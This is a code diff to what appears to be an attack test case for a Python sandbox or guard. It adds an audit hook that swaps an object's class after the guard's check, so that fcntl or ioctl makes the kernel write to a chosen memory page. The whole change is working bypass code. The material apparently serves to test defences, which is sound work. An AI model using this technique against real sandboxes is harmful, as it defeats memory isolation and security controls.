@@ -2,11 +2,13 @@
 # rule: native_code
 # needs: x86_64
 # success: the kernel writes to an address that fcntl.fcntl or fcntl.ioctl takes from an object,
-#   whose class says that it has no __index__
+#   whose class says that it has no __index__, or is exchanged for one that has it after the event
 # proof: word
 import fcntl
 import mmap
 import os
+import sys
+import types
 
 from attack import attempt
 
@@ -28,6 +30,24 @@ class Number(metaclass=Silent):
         return self.value
 
 
+class Module(types.ModuleType):
+    def __index__(self):
+        return self.value
+
+
+def later(value):
+    """A module, whose class an audit hook exchanges behind the guard's."""
+    module = types.ModuleType("later")
+    module.value = value
+
+    def exchange(event, arguments):
+        if event.startswith("fcntl.") and len(arguments) > 2 and arguments[2] is module:
+            module.__class__ = Module
+
+    sys.addaudithook(exchange)
+    return module
+
+
 def low_page():
     flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
     before = set(open("/proc/self/maps"))
@@ -46,10 +66,11 @@ def write():
     os.write(go, b"12345")
     tried = []
     for call, request, at in ((fcntl.fcntl, F_GETOWN_EX, 0), (fcntl.ioctl, FIONREAD, 64)):
-        page[:128] = b"\xff" * 128
-        try:
-            call(come, request, Number(where + at))
-        except OSError:
-            continue
-        tried.append(page[at : at + 4] != b"\xff" * 4)
+        for number in (Number, later):
+            page[:128] = b"\xff" * 128
+            try:
+                call(come, request, number(where + at))
+            except OSError:
+                continue
+            tried.append(page[at : at + 4] != b"\xff" * 4)
     return any(tried)
